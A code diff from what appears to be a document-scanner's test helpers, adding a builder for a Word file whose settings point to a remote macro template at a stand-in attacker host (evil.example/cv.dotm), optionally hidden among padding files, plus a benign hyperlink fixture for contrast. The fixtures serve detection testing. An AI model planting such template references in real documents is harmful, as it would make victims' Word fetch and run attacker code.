@@ -274,6 +274,31 @@ export function makeDocx(paragraphs?: string[]): Buffer {
   return makeZipFrom(docxParts(paragraphs));
 }
 
+const relationships = (rows: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows}</Relationships>`;
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+/** "Template injection": settings point at a remote template that Word fetches (and runs) on opening. */
+export function makeDocxWithRemoteTemplate({ padBefore = 0, padAfter = 0 } = {}): Buffer {
+  const parts = docxParts();
+  const padding = (name: string, size: number) => (size > 0 ? [{ name, data: noise(size) }] : []);
+  return makeZipFrom([
+    ...parts.slice(0, 3),
+    ...padding('word/media/image1.jpeg', padBefore),
+    { name: 'word/_rels/settings.xml.rels', data: relationships(`<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/cv.dotm" TargetMode="External"/>`) },
+    { name: 'word/settings.xml', data: '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>' },
+    ...padding('word/media/image2.jpeg', padAfter),
+    ...parts.slice(3),
+  ]);
+}
+
+/** A CV whose links point to publications: external hyperlinks are ordinary. */
+export function makeDocxWithHyperlinks(): Buffer {
+  const parts = docxParts();
+  parts[3] = { name: 'word/_rels/document.xml.rels', data: relationships(`<Relationship Id="rId5" Type="${REL}/hyperlink" Target="https://pubmed.example.org/12345" TargetMode="External"/>`) };
+  return makeZipFrom(parts);
+}
+
 // ---------------------------------------------------------------- hostile files
 
 export const makeExe = () => {
